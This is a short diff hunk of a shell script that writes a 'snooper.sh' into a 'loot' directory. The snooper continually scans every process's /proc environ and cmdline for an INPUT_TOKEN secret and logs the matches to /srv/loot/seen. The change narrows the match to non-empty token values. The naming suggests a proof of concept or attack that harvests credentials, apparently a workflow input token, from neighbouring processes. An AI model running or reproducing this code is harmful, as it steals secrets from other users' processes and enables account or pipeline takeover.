@@ -30,7 +30,7 @@ exit 1'
 done
 cat >$loot/snooper.sh <<'SNOOPER'
 while :; do
-    cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -a INPUT_TOKEN >>/srv/loot/seen
+    cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -a "INPUT_TOKEN=." >>/srv/loot/seen
     sleep 0.02
 done
 SNOOPER
